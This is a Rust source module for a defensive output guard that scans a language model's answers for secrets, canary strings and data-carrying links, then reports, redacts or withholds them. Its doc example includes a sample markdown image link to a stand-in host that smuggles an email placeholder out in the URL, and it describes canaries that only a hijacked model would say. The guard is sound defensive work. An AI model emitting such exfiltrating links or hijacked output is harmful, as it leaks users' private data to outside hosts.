//! What a model's answer must not carry: secrets, canary values, data in links.
//!
//! In: an answer, before originals are put back into it. Out: where it leaks, and the answer with those places taken out, or
//! nothing of it. An answer is checked line by line, a line that goes on together with the next ones, so that a stream
//! ([`AnswerGuard`]) decides as the whole does. Nothing is passed on unchecked, and nothing after the answer is blocked.

mod canary;
mod guard;
mod json;
mod links;
mod sse;

use std::borrow::Cow;
use std::sync::Arc;

use crate::engine::{Engine, Scratch};
use crate::entity::{Category, Entity};
use crate::finding::Finding;
use crate::redact::Vault;
use crate::span::Span;

pub use guard::AnswerGuard;
pub use sse::SseGuard;

/// What is looked for in an answer, and what is done where it is found.
///
/// ```
/// let engine = inkout::Engine::new();
/// let checks = inkout::AnswerChecks::new().canary("blue-heron-417");
/// let answer = "Done. ![ok](https://x.example/p?d=[EMAIL_1]) The word is Blue Heron 417.";
/// let checked = engine.check_answer(answer, &checks);
/// assert_eq!(checked.text, "Done. ![ok]([LINK]) The word is [CANARY].");
/// ```
#[derive(Clone, Default)]
pub struct AnswerChecks<'v> {
    canaries: Vec<canary::Canary>,
    vault: Option<Lent<'v>>,
    on_leak: OnLeak,
}

/// A vault for as long as the checks last.
#[derive(Clone)]
enum Lent<'v> {
    Borrowed(&'v Vault),
    Shared(Arc<Vault>),
}

/// What is done with an answer that leaks.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum OnLeak {
    /// Nothing.
    Report,
    /// Leaking places are taken out.
    #[default]
    Redact,
    /// The answer is withheld.
    Block,
}

/// A place where an answer leaks. Never holds what stands there.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Leak {
    /// Where, in bytes of the answer.
    pub span: Span,
    /// What.
    pub kind: LeakKind,
}

/// What an answer leaks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum LeakKind {
    /// A secret of this kind.
    Secret(Entity),
    /// A canary, however it is spelled.
    Canary,
    /// A link or image that carries a placeholder, an original, personal data or a secret.
    Link,
}

impl LeakKind {
    /// The name used in reports.
    pub fn name(self) -> &'static str {
        match self {
            LeakKind::Secret(entity) => entity.name(),
            LeakKind::Canary => "canary",
            LeakKind::Link => "link",
        }
    }
}

/// An answer that was checked.
#[derive(Clone, PartialEq, Eq)]
pub struct Checked<'a> {
    /// The answer, without what leaks if that was asked for; empty where it is blocked.
    pub text: Cow<'a, str>,
    /// Where it leaks, in order.
    pub leaks: Vec<Leak>,
    /// Whether it is withheld.
    pub blocked: bool,
}

impl std::fmt::Debug for Checked<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Checked").field("leaks", &self.leaks).finish_non_exhaustive()
    }
}

impl std::fmt::Debug for AnswerChecks<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AnswerChecks").field("on_leak", &self.on_leak).finish_non_exhaustive()
    }
}

impl<'v> AnswerChecks<'v> {
    /// Checks for secrets, and for links and images that carry data out; leaking places are taken out.
    pub fn new() -> AnswerChecks<'v> {
        AnswerChecks::default()
    }

    /// Also look for this text, which only a hijacked model says: as it is, in other letter case and punctuation, reversed,
    /// in base64 and hex.
    #[must_use]
    pub fn canary(mut self, text: &str) -> AnswerChecks<'v> {
        self.canaries.extend(canary::Canary::new(text));
        self
    }

    /// Also look for originals of this vault in links and images.
    #[must_use]
    pub fn vault(mut self, vault: &'v Vault) -> AnswerChecks<'v> {
        self.vault = Some(Lent::Borrowed(vault));
        self
    }

    /// As [`AnswerChecks::vault`], for checks that outlive the place where the vault is kept.
    #[must_use]
    pub fn shared_vault(mut self, vault: Arc<Vault>) -> AnswerChecks<'v> {
        self.vault = Some(Lent::Shared(vault));
        self
    }

    fn kept(&self) -> Option<&Vault> {
        self.vault.as_ref().map(|vault| match vault {
            Lent::Borrowed(vault) => *vault,
            Lent::Shared(vault) => vault,
        })
    }

    /// What to do with an answer that leaks.
    #[must_use]
    pub fn on_leak(mut self, on_leak: OnLeak) -> AnswerChecks<'v> {
        self.on_leak = on_leak;
        self
    }
}

impl Engine {
    /// Check a model's answer before originals are put back into it.
    pub fn check_answer<'a>(&self, answer: &'a str, checks: &AnswerChecks<'_>) -> Checked<'a> {
        let mut guard = AnswerGuard::new(self, checks.clone());
        let mut text = Vec::new();
        let mut blocked = false;
        let mut leaks = Vec::new();
        for last in [false, true] {
            let done = if last { guard.finish() } else { guard.push(answer.as_bytes()) };
            match done {
                Ok(part) => text.extend_from_slice(part),
                Err(_) => blocked = true,
            }
            leaks.extend_from_slice(guard.leaks());
            if blocked {
                break;
            }
        }
        let changed = checks.on_leak == OnLeak::Redact && !leaks.is_empty();
        let text = match (blocked, changed) {
            (true, _) => Cow::Borrowed(""),
            (_, false) => Cow::Borrowed(answer),
            // What is left out begins and ends between characters.
            _ => Cow::Owned(String::from_utf8_lossy(&text).into_owned()),
        };
        Checked { text, leaks, blocked }
    }

    /// Where `text` leaks from `start` on; what stands before is context.
    fn leaks(
        &self,
        text: &[u8],
        start: usize,
        checks: &AnswerChecks<'_>,
        scratch: &mut Scratch,
    ) -> Vec<Leak> {
        let mut findings = Vec::new();
        self.inner.scan_behind(text, start, text.len(), scratch, &mut findings);
        findings.retain(|f| f.is_acted_on() && f.span.end > start);
        let mut leaks: Vec<Leak> = findings.iter().filter_map(secret).collect();
        leaks.extend(
            links::leaking(&text[start..], checks.kept(), |link| {
                let link = link.behind(start);
                findings.iter().any(|finding| is_data(finding) && finding.span.overlaps(link))
            })
            .into_iter()
            .map(|span| Leak { span: span.behind(start), kind: LeakKind::Link }),
        );
        for canary in &checks.canaries {
            let found = canary.find(&text[start..]).into_iter();
            leaks.extend(
                found.map(|span| Leak { span: span.behind(start), kind: LeakKind::Canary }),
            );
        }
        disjoint(leaks, start)
    }
}

fn secret(finding: &Finding) -> Option<Leak> {
    let is_secret = finding.category() == Category::Secret;
    is_secret.then_some(Leak { span: finding.span, kind: LeakKind::Secret(finding.entity) })
}

/// Whether a finding in a link is data that the link carries out.
fn is_data(finding: &Finding) -> bool {
    matches!(finding.category(), Category::Secret | Category::Pii)
}

/// Leaks in order; those that overlap are one, of the first's kind, and none begins before `start`.
fn disjoint(mut leaks: Vec<Leak>, start: usize) -> Vec<Leak> {
    leaks.sort_by_key(|leak| (leak.span.start, leak.span.end));
    let mut merged: Vec<Leak> = Vec::with_capacity(leaks.len());
    for mut leak in leaks {
        leak.span = Span::new(leak.span.start.max(start), leak.span.end);
        match merged.last_mut() {
            Some(last) if last.span.overlaps(leak.span) => last.span = last.span.union(leak.span),
            _ => merged.push(leak),
        }
    }
    merged
}

#[cfg(test)]
mod tests;
